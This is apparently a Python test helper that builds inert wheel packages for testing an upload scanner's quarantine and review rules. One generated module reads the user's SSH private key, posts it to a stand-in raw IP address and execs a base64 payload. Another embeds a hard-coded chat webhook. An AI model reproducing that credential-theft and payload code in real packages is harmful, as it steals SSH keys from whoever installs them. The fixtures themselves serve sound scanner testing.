"""Inert wheels the scanner flags, for tests of the upload gate and review.

Both are built from the inert corpus helpers: every module starts by raising SystemExit and
every host is unroutable, so installing one (after an admin approves it) runs nothing.
"""

from __future__ import annotations

from pathlib import Path

from tests.builders.distributions import build_wheel
from tests.corpus.fixtures import DISCORD_WEBHOOK, GUARD, RAW_IP, b64

MALICIOUS_RULES = ("exec-decoded-payload", "exfiltrate-credentials")
SUSPICIOUS_RULE = "hardcoded-webhook"


def build_malicious_wheel(dest: Path, name: str, version: str = "1.0") -> Path:
    """Sends ~/.ssh/id_rsa to a raw address and runs a base64 payload: quarantined."""
    source = GUARD + (
        "import base64\nimport os\nimport urllib.request\n\n"
        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        f"urllib.request.urlopen('http://{RAW_IP}/k', data=key.encode())\n"
        f"exec(base64.b64decode('{b64()}'))\n"
    )
    return build_wheel(dest, name, version, modules={f"{_module(name)}/__init__.py": source})


def build_suspicious_wheel(dest: Path, name: str, version: str = "1.0") -> Path:
    """A hard-coded chat webhook and nothing else: held for review."""
    source = (
        f"WEBHOOK = '{DISCORD_WEBHOOK}'\n\n\ndef notify(message):\n    return (WEBHOOK, message)\n"
    )
    return build_wheel(dest, name, version, modules={f"{_module(name)}/__init__.py": source})


def _module(name: str) -> str:
    return name.replace("-", "_").replace(".", "_").lower()
